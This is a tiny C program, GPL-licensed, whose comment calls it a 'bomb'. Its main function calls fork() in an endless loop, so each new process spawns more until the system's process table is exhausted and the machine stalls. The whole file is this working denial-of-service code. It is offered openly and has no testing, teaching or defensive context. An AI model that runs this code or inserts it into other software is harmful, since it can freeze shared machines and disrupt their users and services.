/* SPDX-License-Identifier: GPL-2.0-only */
/* bomb: every process of it makes more of them, for as long as there is room for one; none ends. */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
